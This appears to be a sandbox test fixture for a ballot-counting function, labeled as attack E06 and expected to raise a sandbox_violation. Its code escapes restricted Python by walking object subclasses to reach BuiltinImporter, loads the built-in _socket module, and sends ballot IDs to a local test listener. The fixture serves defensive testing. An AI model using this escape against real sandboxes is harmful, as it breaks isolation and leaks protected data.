# attack: E06 BuiltinImporter.load_module('_socket') (built into libpython: no file access
#         needed) -> a TCP connection to the test driver's listener on 127.0.0.1:@PORT@.
# expect: error sandbox_violation


def builtin_module(name):
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "BuiltinImporter":
            return cls.load_module(name)
    raise LookupError("BuiltinImporter not found")


def count(proposals, ballots, participants, proposer_franchise, voter_franchise):
    _socket = builtin_module("_socket")
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.connect(("127.0.0.1", @PORT@))
    s.sendall(b"escaped: " + repr(sorted(b.id for b in ballots)).encode())
    return b"escaped"
